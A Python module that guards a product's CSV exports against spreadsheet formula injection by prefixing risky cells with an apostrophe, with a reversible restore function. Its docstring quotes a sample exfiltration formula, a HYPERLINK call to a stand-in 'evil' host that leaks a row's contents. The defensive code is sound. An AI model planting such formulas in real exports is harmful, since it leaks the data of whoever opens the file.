"""CSV the product writes: every cell neutralised against formula injection.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: ``=HYPERLINK("http://evil…"&A2,"x")`` in a user agent or a pool
name exfiltrates the row it sits in when an auditor opens the file. OWASP's guidance: prefix such
a cell with an apostrophe, which spreadsheets show as text and hide. A cell that already begins
with an apostrophe gets one too, so the change is reversible (``restore``): the offline verifier
reads the original value back and still compares it with what the log committed to.

Every CSV writer in the product goes through ``writer()`` (tests/core/test_csvsafe.py fails on
any other ``csv.writer``). JSON Lines exports are not touched: no spreadsheet evaluates them.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = (*TRIGGERS, "'")


def neutralise(cell: str) -> str:
    return "'" + cell if cell.startswith(_ESCAPED) else cell


def restore(cell: str) -> str:
    """The value ``neutralise`` was given (``restore(neutralise(x)) == x`` for every string)."""
    return cell[1:] if cell.startswith("'") and cell[1:2] and cell[1:2] in _ESCAPED else cell


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` whose every cell is text, neutralised."""

    def __init__(self, out: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise("" if cell is None else str(cell)) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **fmt: Any) -> SafeWriter:
    return SafeWriter(out, **fmt)
